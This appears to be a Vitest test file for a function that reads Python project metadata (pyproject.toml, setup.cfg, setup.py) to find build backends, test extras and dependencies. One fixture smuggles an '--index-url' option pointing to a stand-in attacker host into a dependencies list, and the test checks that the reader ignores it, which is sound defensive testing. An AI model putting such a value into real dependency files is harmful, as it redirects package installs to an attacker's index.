import { describe, expect, it } from 'vitest';
import { readPythonProject } from '../../../gates/toolchain/read-python-project.js';
import { useTempProjects } from './temp-project.js';

const project = useTempProjects();

describe('readPythonProject', () => {
  it('reads pyproject.toml as TOML: backend, test extras and their requirements, never an option as a requirement', () => {
    const p = project({
      'pyproject.toml': [
        '[build-system]',
        'requires = ["flit_core >=3.12,<4"]',
        'build-backend = "flit_core.buildapi"',
        '',
        '[project]',
        'name = "demo"',
        'version = "1.0"',
        // A multi-line array and a quoted key: what a pattern reader gets wrong.
        'dependencies = [',
        '  "attrs>=23",',
        '  "--index-url=http://attacker.example/simple",',
        ']',
        '',
        '[project.optional-dependencies]',
        '"test" = ["pytest>=8", "hypothesis"]',
        'docs = ["sphinx"]',
      ].join('\n'),
      'requirements-dev.txt': 'pytest\n',
      'requirements-docs.txt': 'sphinx\n',
    });
    expect(readPythonProject(p.dir)).toEqual({
      installable: true,
      extras: ['test'],
      requirementFiles: ['requirements-dev.txt'],
      buildBackend: 'flit_core',
      dependencies: ['attrs>=23', 'pytest>=8', 'hypothesis'],
    });
  });

  it('falls back to dev extras, reads setup.cfg and setup.py without running them, and tries a pyproject.toml that does not parse', () => {
    expect(readPythonProject(project({ 'setup.cfg': '[metadata]\nname = demo\n\n[options.extras_require]\ndev = pytest\n' }).dir)).toMatchObject({ installable: true, extras: ['dev'] });
    expect(readPythonProject(project({ 'setup.py': 'from setuptools import setup\nsetup(extras_require={"testing": ["pytest"]})\n' }).dir)).toMatchObject({ installable: true, extras: ['testing'] });
    expect(readPythonProject(project({ 'pyproject.toml': '[project\nname = ' }).dir)).toMatchObject({ installable: true, extras: [], dependencies: [] });
    expect(readPythonProject(project({ 'pyproject.toml': '[tool.black]\nline-length = 100\n', 'requirements.txt': 'x\n' }).dir)).toMatchObject({ installable: false, requirementFiles: ['requirements.txt'] });
  });
});
